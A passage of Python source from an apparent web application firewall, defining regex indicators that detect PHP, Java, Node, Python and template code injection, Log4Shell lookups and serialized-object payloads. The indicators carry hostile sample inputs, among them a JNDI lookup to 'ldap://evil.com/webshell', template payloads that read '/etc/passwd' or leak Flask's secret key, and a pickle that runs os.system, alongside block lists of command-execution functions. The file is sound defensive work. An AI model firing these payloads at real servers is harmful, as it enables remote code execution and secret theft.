"""Code and template injection: PHP, Java, Python, Node, Ruby, expression languages, pickles."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

from guard_wsgi.detection.indicators.indicator import (
    CERTAIN,
    DECISIVE,
    MEDIUM,
    STRONG,
    WEAK,
    Family,
)

_CODE = "CWE-94; OWASP: Code Injection"
_SSTI = "PayloadsAllTheThings, Server Side Template Injection"
_PYTHON = "PayloadsAllTheThings, Server Side Template Injection: Jinja2; CWE-94"
_PHP = "PHP manual: functions that run code; idea of the CRS 933 family"
_JAVA = "idea of the CRS 944 family; CVE-2017-5638, CVE-2022-22965"
_NODE = "idea of the CRS 934 family"
_SERIAL = "OWASP: Deserialization of untrusted data; CWE-502"
_LOG4J = "CVE-2021-44228, CVE-2021-45046"

# By the row: Hyperscan looks for the names of a short list as fixed text.
_PHP_RUN = (
    r"system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|phpinfo|phpversion|preg_replace",
    r"create_function|call_user_func(?:_array)?|array_map|array_filter|usort|uasort|register_shutdown_function",
    r"include(?:_once)?|require(?:_once)?|readfile|file_get_contents|file_put_contents|fopen|fwrite|fread|file",
    r"highlight_file|show_source|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|unserialize",
    r"var_dump|print_r|scandir|glob|opendir|readdir|unlink|chmod|mkdir|rename|copy|move_uploaded_file|ini_set|set_time_limit",
    r"mail|fsockopen|curl_exec|curl_init|dl|putenv|getenv|extract|parse_str|die|exit|func_get_args|get_defined_vars",
    r"getallheaders|posix_\w+|symlink|error_log|hex2bin|bin2hex|chr|pack|implode|array_diff|strrev|session_start|is_callable",
)

# Functions by the PHP manual's chapters on program execution, function handling, POSIX, process
# control, options, variables, the file system, streams, compression and cURL: compounds only.
_PHP_LIBRARY = (
    r"(?:call_user_(?:func|method)(?:_array)?|forward_static_call(?:_array)?|func_(?:get_args?|num_args)|(?:function|file|class|method)_exists|get_defined_(?:functions|vars|constants)|register_(?:shutdown|tick)_function|create_function|curl_(?:init|exec|setopt\w*|multi_\w+|getinfo|file_create|copy_handle|error)"
    r"|posix_(?:get[a-z]+|kill|set[a-z]+|uname|times|mk[a-z]+|access|ttyname|isatty|ctermid|initgroups|strerror|errno)|pcntl_[a-z_]+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|escapeshell(?:cmd|arg)|base64_(?:de|en)code|gz(?:inflate|uncompress|decode|open|passthru|file|read|puts|compress|encode|write)|readgzfile|bz(?:decompress|compress|open|read|write)"
    r"|zlib_(?:de|en)code|str_rot13|convert_uu(?:de|en)code|hex2bin|bin2hex|preg_(?:replace\w*|match\w*|split|grep|quote)|mb_(?:ereg\w*|send_mail)|array_(?:map|filter|walk\w*|reduce|diff\w*|intersect\w*|combine|flip)|u[ak]?sort|iterator_apply|ob_(?:start|get_\w+|end_\w+|clean)"
    r"|stream_(?:context\w*|get_\w+|socket\w*|wrapper\w*|filter\w*|copy\w*|register\w*)|p?fsockopen|socket_(?:create|connect|bind|listen|accept)|file_(?:get|put)_contents|file(?:group|owner|perms|size|atime|ctime|mtime|inode|type)|is_(?:callable|uploaded_file|writeable|executable)"
    r"|highlight_(?:file|string)|show_source|php_(?:uname|sapi_name|strip_whitespace|ini_\w+)|phpinfo|phpversion|phpcredits|zend_version|ini_(?:get(?:_all)?|set|restore|alter)|set_(?:include_path|time_limit|error_handler|exception_handler)|get(?:mypid|myuid|lastmod|mygid|myinode)"
    r"|get_(?:current_user|cfg_var|include_path|loaded_extensions|included_files|required_files|magic_quotes\w*|resources|object_vars)|putenv|apache_[a-z_]+|session_(?:start|id|save_path|decode|destroy)|spl_autoload\w*|simplexml_load_(?:file|string)|unserialize|var_(?:dump|export)|print_r|debug_(?:zval\w*|print_backtrace)"
    r"|error_log|move_uploaded_file|parse_(?:str|ini_file|ini_string)|import_request_variables|opendir|scandir|rewinddir|readlink|tempnam|tmpfile|disk_(?:free|total)_space|realpath_cache\w*|fpassthru|fputcsv|fgetcsv|fgetss|fputs|readfile|passthru|popen|pclose|closelog|openlog"
    r"|assert_options|extension_loaded|mysqli?_(?:query|connect|real_query|multi_query)|pg_(?:query|connect|exec)|sqlite_(?:open|query|exec)|odbc_(?:exec|connect|result)|ftp_(?:connect|get|put|exec|nb_\w+)|imap_(?:open|mail|body)|ssh2_(?:exec|connect|shell)|fileowner|inotify_init|openssl_\w+|expect_popen)"
)
_PHP_BLANK = r"(?:\s*(?:/\*[^*]*\*+/|(?://|#)[^\r\n]*[\r\n]+))+\s*"


_make = Family("code")

# fmt: off
CODE = (
    _make("code_injection", "php_open", r"<\?(?:php\b|=|\s|xml\s*:|$)|<\?php|\[\\?/?php\]|<script\s+language\s*=\s*['\"]?php", _PHP, examples=('test<?',)),
    _make("code_injection", "php_open_tag", r"<\?php\b|<\?=|<\?\s*(?:system|eval|echo|include|phpinfo)", _PHP, STRONG, examples=('<?=1?>',)),
    _make("code_injection", "php_call", "|".join(r"\b(?:" + names + r")['\"]?\s*\)?\s*(?:/\*[^*]*\*/\s*)?\(\s*(?:['\"$)]|[\w.]+\s*[(,)]|@|0x|\d)" for names in _PHP_RUN), _PHP, examples=('system()',)),
    _make("code_injection", "php_call_hard", r"\b(?:system|shell_exec|passthru|popen|proc_open|eval|assert|phpinfo|base64_decode|gzinflate|call_user_func\w*|file_get_contents|file_put_contents|create_function|unserialize|readfile|preg_replace)(?:\(|\s+\(\s*[^\sa-z])", _PHP, examples=('system()',)),
    _make("code_injection", "php_variable", r"\$_(?:get|post|request|server|cookie|files|env|session)\b|\$globals\b|\$(?:http_\w+_vars|php_self)|\$\{?\s*['\"]?_(?:get|post)", _PHP, CERTAIN, examples=('$_COOKIE',)),
    _make("code_injection", "php_variable_call", r"\$[a-z_]\w*\s*\(|\$\{[^}]{0,40}\}\s*[(\[]|\$\w+(?:->|::)\$?\w+\s*\(|\$_*\[|\$\w+\s*=\s*['\"$\w\[]", _PHP, WEAK, examples=('$[]',)),
    _make("code_injection", "php_string_call", r"\(?\[?['\"]\s*(?:system|exec|passthru|shell_exec|assert|phpinfo|popen|eval|file_get_contents|readfile|highlight_file)\s*['\"]\s*\]?\)?(?:\[\d\])?\s*(?:\(|,|\|)|\(\s*(?:system|exec|passthru|assert|phpinfo|shell_exec)\s*\)\s*\(", _PHP, CERTAIN, examples=('(system)(ls);',)),
    _make("code_injection", "php_ini", r"\b(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_functions|safe_mode|open_basedir|suhosin\.\w+|cgi\.force_redirect|register_globals|magic_quotes_gpc|display_errors)\b\s*=?", "CVE-2012-1823, CVE-2024-4577", STRONG, examples=('-d allow_url_include=on -d safe_mode=off -d auto_prepend_file=php://input',)),
    _make("code_injection", "php_option", r"^-[dsn](?:\s|\+|%20)|-d\s*allow_url", "CVE-2012-1823", STRONG, examples=('-d allow_url_include=on -d safe_mode=off -d auto_prepend_file=php://input',)),
    _make("code_injection", "php_concatenation", r"['\"]\s*\.\s*(?:['\"(]|\w+\s*\()|\bchr\s*\(\s*\d+\s*\)\s*\.|\(\s*['\"]\w+['\"]\s*\)\s*\(", _PHP, WEAK, examples=('"id".execute()',)),
    _make("code_injection", "php_library", _PHP_LIBRARY + r"\s*\(", _PHP, 0.7, examples=('phpinfo()',)),
    _make("code_injection", "php_library_only", r"^[\s'\"@;({\[]*\w*" + _PHP_LIBRARY + r"\s*\([^\r\n]*\)[^\w]*\d?[^\w]*$", _PHP, STRONG, examples=('phpinfo()',)),
    _make("code_injection", "php_comment_call", "|".join(r"\b(?:" + names + ")" + _PHP_BLANK + r"\(" for names in _PHP_RUN) + r"|\$\w+(?:\s*\[[^\]]{0,20}\])*" + _PHP_BLANK + r"(?:\[[^\]]{0,20}\](?:\s*/[/*][^\r\n\[\]]{0,20})?\s*){0,4}\(", _PHP, CERTAIN, examples=('$a/*c*/()',)),
    _make("code_injection", "php_blank_call", r"\b(?:system|exec|passthru|assert|file|fopen|popen|eval|readfile|include|require)\s*(?:[\r\n]\s*|\s{2,})\([^\w]*\w*[^\w]*$", _PHP, 0.8, examples=('exec  (blah)',)),
    _make("code_injection", "php_dynamic_call", r"^[\s'\"@({;]*\$+(?:[a-z_]\w*|\{[^}\r\n]{1,40}\})\s*(?:->\s*\$?\w+\s*|=\s*@?\$\w+\s*)?(?:\s*[\[{][^\]}\r\n]{0,40}[\]}])*\s*\([^\r\n]{0,80}\)\s*;?\s*$|\w::\$\w+\s*\(|\(\s*\$\w+\s*\)\s*\(|\$\s+\{[^}]{1,40}\}\s*\(", _PHP, CERTAIN, examples=('$a(1)',)),
    _make("code_injection", "php_string_function", r"['\"]\s*\)\s*\(\s*['\"$\d)]|['\"]\s*\.\s*['\"]\w{0,16}['\"]\s*\)?\s*\(|\[\s*['\"]\w{2,24}['\"]\s*\]\s*\(\s*['\"$]", _PHP, STRONG, examples=("('system')('whoami')",)),
    _make("code_injection", "php_run_only", r"^[\s'\"@;(]*(?:system|exec|passthru|fopen|fread|fwrite|strrev|getenv|chmod|unlink|mkdir|ini_set|dl|eval)\((?:\s*\w{0,24}\s*\)\s*;|\s*(?:\d+|id|ls|a|b|c|x|cmd|foo|bar|whoami)?\s*\)\s*$)", _PHP, STRONG, examples=('system()',)),
    _make("code_injection", "php_array_call", r"^[\s(]*(?:\(\s*string\s*\)\s*)?\{?\s*\[\s*\w+\s*\]\s*\[\s*\d\s*\]\s*\}?\s*\)?\s*\(|^\(\s*\w+\s*\.\s*\(|\)\s*/\*[^*]*\*/\s*\(|\)\s*(?:\[\d\]){1,4}\s*\(\s*['\"]|\bdefine\s*\(\s*['\"]\w+['\"]\s*,", _PHP, CERTAIN, examples=('[system][0](ls);',)),
    _make("code_injection", "php_global_index", r"\$_?(?:get|post|request|server|cookie|files|env|session|globals)\s*\[\s*['\"]?\w", _PHP, STRONG, examples=("$_SERVER['test'];",)),
    _make("code_injection", "php_limit", r"\b(?:memory_limit|mbstring\.\w+|unserialize_\w+|max_execution_time|disable_classes|short_open_tag|upload_tmp_dir)\s*=", "PHP manual: php.ini directives", CERTAIN, examples=('memory_limit = 512M',)),
    _make("code_injection", "php_block", r"\{/?php\}", "Smarty manual: {php}", STRONG, examples=('{php}test{/php}',)),
    _make("code_injection", "php_variable_name", r"\$\s*\{\s*['\"]\w*['\"]\s*\}|\$\s+\{\s*\$?\w+\s*\}|\$\{\s{2,}\$?\w+\s*\}", "PHP manual: variable variables", STRONG, examples=("${'ff'}",)),
    _make("code_injection", "php_setting", r"\b(?:extension_dir|session\.(?:auto_start|save_path|save_handler|upload_progress\.\w+)|opcache\.\w+|mbstring\.func_overload|sendmail_path|error_(?:append|prepend)_string|enable_dl|zend_extension|user_ini\.filename|highlight\.\w+|include_path|open_basedir|mail\.add_x_header|unserialize_callback_func|assert\.\w+)\s*=|\bphp_(?:admin_)?(?:value|flag)\s", "PHP manual: php.ini directives; CVE-2019-11043", CERTAIN, examples=('extension_dir=/path/to/example',)),
    _make("code_injection", "asp_open", r"<%\s*(?:=|@|eval|execute|response|request|out|runtime|\w+\s*[.(])|<%[^%]*%>|<jsp:|<cf(?:execute|file|include)", _CODE, examples=('<%=7*7%>',)),
    _make("code_injection", "asp_object", r"\b(?:server\.createobject|response\.write|request\.(?:form|querystring|item)\s*\(|execute(?:global)?\s*\(\s*request|wscript\.shell|scripting\.filesystemobject|adodb\.\w+|system\.diagnostics\.process|process\.start)\b", _CODE, STRONG, examples=('WScript.Shell',)),
    _make("code_injection", "python", r"\b__(?:import|class|mro|subclasses|globals|builtins|base|bases|getattribute|getitem|code|reduce)__|__init__\s*\.\s*__|\bimport\s+(?:os|sys|subprocess|socket|pty|pickle)\s*[;,]|\b(?:exec|eval|compile|open|getattr|globals|locals|execfile)\s*\(\s*(?:compile|open|__|['\"]|request|input|chr)", _CODE, STRONG, examples=("exec('ls')",)),
    _make("code_injection", "python_import", r"__import__\s*\(|\bos\.(?:environ|listdir|getcwd|remove|system|popen)\b|\bsys\.(?:modules|argv|path)\b|\bopen\s*\(\s*['\"]/", _CODE, STRONG, examples=('os.system',)),
    _make("code_injection", "node", r"\brequire\s*(?:\(|\[|\.)\s*(?:['\"`]\w+['\"`]\)?|main|resolve|cache|req)|\bprocess\s*(?:\.|\[\s*['\"`]?)\s*(?:mainmodule|env|exit|binding|stdout|kill|argv|version|cwd|constructor|req)|\b(?:global|root|globalthis)\.process|\bconsole\s*\.\s*(?:log|info|error|debug|warn)\s*(?:\(|\.call|\.apply)|\bmodule\.exports|_\$\$nd_func\$\$_?|__js_function", _NODE, 0.9, examples=('process.env',)),
    _make("code_injection", "node_reached", r"\bprocess\s*\?\.|(?:reflect\s*\.\s*[a-z]+|object\.[a-z]+|\bwith)\s*\(\s*process\b|\}\s*=\s*process\b|\bmodule\s*\.\s*constructor\b|\brequire\s*\(\s*['\"`]node:|\bprocess\.(?:report|getbuiltinmodule|dlopen)\b|\bglobal(?:this)?\s*\[\s*['\"`]|\bwindow\s*\[\s*['\"`]pro", "Node.js documentation: process, module, globalThis", CERTAIN,
          prefilter=(r"process\?\.", r"\(process", r"=process;", r"= process;", r"'node:", r"\"node:", "`node:", r"global\[", r"_load\(", r"module\.constr", r"\['pro", r"\[\\?\"pro", r"process\.report"), examples=("process?.env?.SECRET", "with(process)env.SECRET", "let{env:e}=process;e.SECRET", "Reflect.get(process,'env').SECRET", "module.constructor._load('fs')", "require('node:fs').readdirSync('/etc')", "globalThis['pro'+'cess'].env", "global['process'].env['SECRET']", "Object.values(process.env)+''")),
    _make("code_injection", "node_function", r"\b(?:exec|spawn|execfile|fork|execsync|spawnsync|readfile(?:sync)?|readdir(?:sync)?|writefile(?:sync)?|createreadstream)\s*\(", _NODE, examples=("exec('ls')",)),
    _make("code_injection", "perl_array", r"@\{\s*\[", _CODE, STRONG, examples=('@{[$$]}',)),
    _make("code_injection", "php_tag_odd", r"<\s*\?\s*php\b|\[/?\\?php\]|<\?$", _PHP, STRONG, examples=('test<?',)),
    _make("code_injection", "php_interpolation", r"\$\s*\{\s*(?:['\"$]|[a-z_]\w*\s*\})", _PHP, WEAK, examples=('${a}',)),
    _make("code_injection", "node_rsc", r"['\"]\$\d+:(?:__proto__|constructor|then|module|prototype)|resolved_model|\$@0", "CVE-2025-55182", STRONG, examples=('resolved_model',)),
    _make("code_injection", "ruby", r"\b(?:kernel|io|file|dir|open3|erb|object|class|process)\.(?:exec|system|open|popen\w*|read|write|new|entries|glob|spawn|capture\w*|const_get|send|fork)\b|\bconstantize\b|\binstance_eval\b|\bsend\s*\(\s*:|\beval\s*\(\s*params", _CODE, examples=("Kernel.exec('id')",)),
    _make("code_injection", "perl", r"\buse\s+(?:socket|strict|io::\w+|posix)\b|\bprint\s*\(?\s*`|\bexec\s*\{|@argv\b|\b(?:system|exec)\s+['\"]/|\bdie\s+['\"]", _CODE, WEAK, examples=("`perl -e 'print `id`'`",)),
    _make("code_injection", "eval_call", r"\b(?:eval|assert|exec|execute|expression)\s*[(`{\s]\s*(?:['\"$`(]|\w+[.(\[]|/)", _CODE, examples=('eval($foo)',)),
    _make("code_injection", "java_class", r"\bjava(?:x)?\s*\.\s*(?:lang|io|util|net|nio|sql|security|rmi|beans|naming|script|management|applet|awt|math|text|xml|el|faces|servlet)\b|\bjavax?\.\w+\.\w+|\b(?:org\.(?:apache|springframework|omg|codehaus|jboss|hibernate|yaml|python|mozilla|w3c|xml|ietf)|com\.(?:sun|opensymphony|mchange|ibm|oracle|bea|caucho|zaxxer|alibaba)|sun\.(?:misc|net|reflect|rmi)|freemarker|groovy\.lang|ognl)\.[\w.]+", _JAVA, examples=('java.io.File',)),
    _make("code_injection", "java_class_only", r"^[\s\"']*(?:java|javax|org|com|sun)(?:\.\w+)+(?:\(\))?[\s\"';]*$", _JAVA, 0.5, examples=('java.Runtime',)),
    _make("code_injection", "java_call", r"\b(?:getclass\s*\(|forname\s*\(|getmethods?\s*\(|getdeclared\w+\s*\(|newinstance\s*\(|getruntime\b|runtime\s*\.\s*(?:exec|getruntime)|processbuilder\b|scriptenginemanager|defineclass|classloader\b|loadclass\s*\(|\.invoke\s*\(|getconstructor\w*\s*\(|setaccessible|bufferedreader|inputstreamreader|(?:file|byte\w*)(?:in|out)putstream|printwriter|getprotectiondomain)", _JAVA, 0.9, examples=('ProcessBuilder',)),
    _make("code_injection", "java_gadget", r"\b(?:clonetransformer|forclosure|instantiate(?:factory|transformer)|invokertransformer|prototype(?:clone|serialization)factory|whileclosure|getproperty|filewriter|xmldecoder|badattributevalueexpexception|templatesimpl|annotationinvocationhandler|chainedtransformer|constanttransformer|lazymap|jdbcrowset\w*|ysoserial|commonscollections\d?|beanshell|objectinputstream|unmarshaller)", _SERIAL, STRONG, examples=('runtime.forclosure',)),
    _make("code_injection", "ognl", r"#(?:_memberaccess|context|application|session|request|parameters|attr|cmd|_\w+|a|p|rt|cl|dm|ognlutil|container|process|iswin|cmds)\s*(?:=|\[|\.)|@(?:java|ognl|org)[\w.]*@|%\{\s*\(?\s*#|\ballowstaticmethodaccess|\bxwork\.methodaccessor|ognl\.|\bredirect(?:action)?:\s*[%$]\{|\baction:\s*[%$]\{|^method:\w", "CVE-2017-5638, CVE-2018-11776", STRONG, examples=('%{#a=1}',)),
    _make("code_injection", "spring4shell", r"\bclass\s*(?:\.|\[)\s*['\"]?(?:module|classloader|protectiondomain)\b|\.classloader\.", "CVE-2022-22965", STRONG, examples=('class.module.classLoader.DefaultAssertionStatus',)),
    _make("code_injection", "spel", r"\bt\s*\(\s*java|[$#]\{\s*(?:pagecontext|applicationscope|sessionscope|requestscope|initparam)\b|\bnew\s+java\.|\$\{\s*t\s*\(|#\{\s*t\s*\(", "CVE-2022-22963", STRONG, examples=('~{T(java.lang.Math).random()}',)),
    _make("log4shell", "jndi", r"\$\{[^}j]*j[^}n]*n[^}d]*d[^}i]*i[^}:]*:|\bjndi\s*:\s*\w|j[^\w\s]{0,12}ndi[^\w\s]{0,4}:", _LOG4J, CERTAIN, examples=('${jndi:ldap://evil.com/webshell}',)),
    # A default in the middle of a name: no shell and no build reads one.
    _make("log4shell", "hidden_lookup", r"\$\{[\w:.]*\$\{(?:[^{}:]|:[^{}-])*:-[^{}]*\}[\w$]", _LOG4J, CERTAIN, examples=("${j${k8s:k5:-ND}i:dns://x}", "${x:${y:-j}ndi}")),
    _make("log4shell", "lookup", r"\$\{\s*(?:\$\{|(?:lower|upper|env|sys|date|java|main|ctx|base64|bundle|docker|k8s|spring|web|log4j|sd|map|event|marker|script|dns|url|const|jvmrunargs|hostname|localhost|resourcebundle|kubernetes|(?:base64|url)(?:en|de)coder|::-\w)\s*:|:+-|xml:[^{}:]+:\s*[/(]|properties:[^{}:]+::)", _LOG4J, STRONG,
          prefilter=(r"\$\{ ?(?:localhost|resourcebundle|kubernetes|base64(?:en|de)coder|url(?:en|de)coder|xml|properties) ?:",), examples=('${env:USER}', "${base64Decoder:SGVsbG8=}", "${kubernetes:podName}", "${xml:a.xml:/b}", "${properties:a::b}")),
    _make("template", "double_brace", r"\{\{.+?\}\}", _SSTI, WEAK, examples=('{{7*7}}',)),
    _make("template", "double_brace_expression", r"\{\{\s*[-#]?\s*(?:[-+(\['\"\d]|\w+\s*[*+|(]|\w+\s*\[\s*(?:[^'\"]|['\"](?:[^\w'\"]|\w*__))|config\b|self\b|request\b|url_for\b|lipsum\b|cycler\b|joiner\b|namespace\b|get_flashed\w*|dump\b|_self\b|app\b|settings\b|constructor\b|this\b|range\b|g\b|\w+\.\w*__|\w+\.(?:\w+\.)*\w+\s*[(\[]|(?:printf?|html|js|urlquery|call|index|define|template|cmd|exec|system)\s+['\"]|php\b|include\b|import\b|block\b|#with|each\b|=|%\w|\$)", _SSTI, 0.75, examples=('{{7*7}}',)),
    _make("template", "math_probe", r"(?:\{\{|\$\{|#\{|<%=?|@\(|\{|\$\{\{|\*\{|~\{|\[\[|\{%|\{\{=|\{\{'|@\{|%\{|\{php\})\s*=?\s*['\"]?\d+['\"]?\s*[*+/-]\s*['\"]?\d+\s*['\"]?\s*(?:%?\}|%>|\)|\]|\{)|\{%-?\s*\w+\s+(?:\w+\s*=\s*)?[(\[]*(?:\d+|'[^'%]*'|\"[^\"%]*\")\s*(?:[-+~%]|[*/]{1,2})\s*[\d'\"(]|^\s*\{%-?\s*for\s+\w+\s+in\s+range\(\d+\)\s*-?%\}\w*\{%-?\s*endfor\s*-?%\}\s*$", _SSTI, STRONG, examples=('{7*7}', "{%set x=7*7%}{{x}}", "{% if 7*7==49 %}y{% endif %}", "{%set x='a'*9%}{{x}}", "{%for x in range(9)%}y{%endfor%}")),
    _make("template", "statement", r"\{%-?\s*(?:if|for|set|import|include|block|extends|macro|with|raw|autoescape|filter|load|debug|print|call|from|endfor|endif|set|do|verbatim|apply|sandbox|use|embed|end|csrf_token|\w+\s*=)", _SSTI, examples=('{% debug %}',)),
    _make("template", "expression_call", r"[$#@*~%]\{[^}]*(?:\(|\[|\.\w+\.|class|runtime|exec|system|file|env|self\.|request|session|param)", _SSTI, 0.8, examples=('@{[$$]}',)),
    _make("template", "dollar_expression", r"[$#*@~%]\{\s*[^}\s]", _SSTI, WEAK, examples=('${a}',)),
    _make("template", "freemarker", r"<#(?:assign|list|if|include|import|macro|function|setting|attempt|-{0,2})\b|\?(?:new|api|eval|interpret|builtin)\s*\(|freemarker\.template", _SSTI, STRONG, examples=('#{"freemarker.template.utility.Execute"?new()("id")}',)),
    _make("template", "velocity", r"#(?:set|foreach|include|parse|macro|evaluate|define)\s*\(\s*[$\"\']|\$(?:class|ex|str|chr|out|rt|sc|in|smarty)\.\w+|\$\w+\.getclass\b|\$class\.|\{\$smarty", _SSTI, STRONG, examples=('#set($s="")',)),
    _make("template", "smarty", r"\{\s*(?:php|/php|literal|system|include|include_php|fetch|math|eval|smarty\.\w+|\$smarty|self::|if\s+\w+\s*\(|function|capture)\b|\{\s*\w+\s*\(\s*['\"]", _SSTI, WEAK, examples=("{system('id')}",)),
    _make("template", "erb", r"<%.*?%>|<%=|<%\s*(?:system|import|require|`|end|for|if)", _SSTI, examples=('<%=7*7%>',)),
    _make("template", "ruby_interpolation", r"#\{\s*(?:\d|[\w.]+\s*[(.*%]|`|'|\"|%x|require|process|global|root|self|function)", _SSTI, examples=('#{7*7}',)),
    _make("template", "razor", r"@(?:\{|\(\s*\d|system\.|model\.|html\.raw|\w+\.(?:invoke|process)|using\b|import\b|functions\b|inject\b)|@\(\s*[\w'\"]", _SSTI, WEAK, examples=('@(1+2)',)),
    _make("template", "erb_command", r"<%=?[^%]{0,80}(?:system|shell|exec|popen|\d\s*[*/]\s*\d|\d/\()", _SSTI, STRONG, examples=('<%=7*7%>',)),
    _make("template", "expression_object", r"[$#*]\{\s*(?:new\s+\w|[a-z]\w*\.(?:get|set|for|add|class|exec|run|create)\w*\s*\()", _SSTI, 0.9, examples=("#{runtime.exec('id')}",)),
    _make("template", "statement_object", r"\{%[^%]*(?:\bconfig\b|\brequest\b|\bself\b|__)", _SSTI, STRONG, examples=("{%set a=lipsum|attr('__globals__')%}{{a}}",)),
    _make("template", "engine_object", r"\{[{%][^}]*\b(?:lipsum\b|current_app\b|(?:cycler|joiner)\s*[.|(\[]|namespace\s*[.|\[%-])|\{%-?\s*for\b[^%]*\bin\s+(?:g|config|current_app|lipsum)\b", "Jinja's and Flask's globals", STRONG, examples=("{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%for i in g%}{{i}}{%endfor%}")),
    _make("template", "settings_lookup", r"\{\{-?\s*config\s*(?:\[|\||\.\s*(?:items|from_\w+|keys|values|copy|pop|get|root_path|\w*(?:secret|passw|token|api_?key|\buri|dsn)\w*)\b)|\{\{[^}]*\brequest\s*\.\s*(?:environ|application|\w*__)", "Flask's config and request in Jinja", DECISIVE, examples=("{{config.items()}}", "{{config.SECRET_KEY}}", "{{request.environ}}", "{{ config['X'] }}")),
    _make("template", "raw_expression", r"\{\{\s*!\s?(?:[(\[\"'{~]|[\w.]*[\w\])](?:[(\[*+|%]|\s?(?:\*|or\b|if\b))|_\w|[\w.]*__)", "Bottle: SimpleTemplate, unescaped expressions", STRONG, examples=("{{!locals()}}", "{{!9**9}}", "{{!_env}}", "{{!x.__class__}}")),
    # Bottle and Mako run a line that begins with a percent sign. In a comment of TeX, no statement of
    # Python is complete.
    _make("template", "statement_line", r"(?:^|\n)[ \t]*%[ \t]*(?:import[ \t]+[a-z_][\w.]*(?:[ \t]+as[ \t]+\w+)?[ \t]*(?:[;,\r\n]|$)|from[ \t]+[\w.]+[ \t]+import[ \t]+[\w*(]|(?:for|while|with|if)\b[^\n(]*\([^\n]*:[ \t]*[\r\n]|(?:\w+[ \t]*=[ \t]*)?(?:open|__import__|exec|eval|globals|locals|vars|getattr|setattr|include|rebase)[ \t]*\(|[^\n]*\b_(?:stdout|printlist|rebase|env)\b)", "Bottle: SimpleTemplate, embedded Python; Mako: control lines", DECISIVE,
          prefilter=(*tuple(start + sign + word for start in ("=", r"\n", r"\x0b") for sign in ("%", "% ") for word in ("import ", "from ", "open", "for ")), "_stdout"),
          examples=("% import os", "x\n% from os import environ as e\n{{e}}", "% x=open('/etc/passwd').read()\n{{x}}", "% for l in open('/etc/passwd'):\n{{l}}\n% end", "% _stdout.append(1)")),
    _make("template", "settings_wrapped", r"\{\{[^{}]*(?:[~\[(,:!]|\b(?:and|or|not|in)) ?config ?(?:[}|~)\],]|\.(?:items|values|keys|get|copy|pop|\w*secret|\w*passw|\w*token)|\[['\"]\w*secret)|\{\{!? ?_stdout\b|\{\{[^{}]*\{[^{}]*: ?config\b|\{[{%][^{}]*\bos\.(?:environ|getenv|popen|system)\b|\$\{ ?(?:locals|globals|vars)\(\)|\$\{ ?context\._", "Flask: config in templates; Mako: context", CERTAIN,
          examples=("{{ {'a':config} }}", "{{ x ~ config }}", "{{ [config.get('SECRET_KEY')] }}", "{{!config}}", "{{os.environ}}", "${locals()}", "${context._data}")),
    _make("template", "probe_odd", r"^\s*\{\{\s*\.\s*\}\}|\w\{\*\w+\*\}\w|\{@math\b", _SSTI, STRONG, examples=('{{ . }}',)),
    _make("code_injection", "groovy_execute", r"['\"]\s*\.\s*execute\s*\(\s*\)", "Apache Groovy: a string that is a command", STRONG, examples=('"id".execute()',)),
    _make("template", "mako", r"<%(?:!|block|def|inherit|namespace|include|import|page)?\s+\w+|\$\{\s*(?:self|context|x|loop|caller|capture|dir|os)\b", _SSTI, examples=('${x#{}}',)),
    _make("template", "jinja_filter", r"\|\s*(?:attr|join|map|filter|reduce|sort|safe|format|list|first|last|select|batch|tojson|e|upper|string|length|replace|print|xmlattr)\s*[(|}]|\bpopen\s*\(|\brequest\s*[.|\[]\s*(?:args|application|attr|values|cookies|headers|environ|form|__)", _SSTI, examples=("popen('id','r')",)),
    _make("template", "jinja_object", r"\b(?:lipsum|cycler|joiner|namespace|get_flashed_messages|url_for|config)\s*[.|\[]\s*(?:['\"]?__|items|from_|attr|class|init)|\b_self\.env|\bconfig\.items\b|self\._\w+|_tpl\b", _SSTI, examples=('{{config.items()}}',)),
    _make("template", "pug_handlebars", r"#\{\s*(?:function|root|global)|\{\{#(?:with|each|if|lookup)\b|\blookup\s+\(|\bmodule\.(?:runtime|cache)|\bself\.(?:module|context|template|attr|_\w+|name|init|__\w+)", _SSTI, examples=('{{#with "e"}}',)),
    _make("template", "angular_escape", r"\{\{[^}]*(?:constructor|\$eval|\$on\b|charat\s*\(|prototype\s*[.\[]|alert\s*[(`]|\|\s*orderby)", "PortSwigger research: client-side template injection", STRONG, examples=("{{ '<script>alert(3)</script>' }}",)),
    # "*{margin:0}" is a rule of CSS for every element. No expression begins with a name and a colon.
    _make("template", "thymeleaf", r"__\$\{|\}__::|\*\{\s*(?:[^\w\s}/*-][^}]*|[\w-]+(?:\s*[^\w\s:}-][^}]*|\s+(?:[\w-][^}]*)?)?)?\}|~\{[^}]*\}|\[\[\$\{", "Thymeleaf expression preprocessing", STRONG, examples=('*{7*7}',)),
    _make("template", "tornado_tag", r"\{%\s*(?:raw|module|import|from|apply|autoescape|whitespace|extends)\b", _SSTI, examples=('{% extends "layout.html" %}',)),
    _make("ssi", "directive", r"<!-*\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv|set|if|else|elif|endif)\b|<esi:\w+", "OWASP Testing Guide WSTG-INPV-08", STRONG, examples=('<esi:debug/>',)),
    _make("deserialization", "php_object", r"(?:^|[;{:\"'=])[oc]:\+?\d+:\"[\w\\]+\":\d+:\{|\bo:\d+:\"", _SERIAL, STRONG, examples=('O:+4:"Test":0:{}',)),
    # PHP apps keep lists in cookies; a list that says "true" passes a loose comparison and logs in.
    _make("deserialization", "php_array", r"\ba:\d+:\{(?:[isbdoa]:\d|\})", _SERIAL, WEAK, examples=('a:5:{s:10',)),
    _make("deserialization", "php_array_truth", r"\ba:\d+:\{[^}]{0,80}s:\d+:\"\w+\";b:[01];", _SERIAL, STRONG, examples=('a:2:{s:8:"username";b:1;s:8:"password";b:1;}',)),
    _make("deserialization", "java_stream", r"\bro0ab[xq]|\xac\xed\x00\x05|\baced0005", _SERIAL, STRONG, examples=('rO0ABQ',)),
    _make("deserialization", "pickle", r"c(?:os|posix|nt|builtins|__builtin__|subprocess|commands)\n\w+\n|\bcos\s+system|\bgasv[a-z]|\x80[\x02-\x05](?:c|(?:\xc2)?\x95|\})|\(s'|\btr\.$", _SERIAL, 0.9, examples=("cos\nsystem\n(S'id'\ntR.",)),
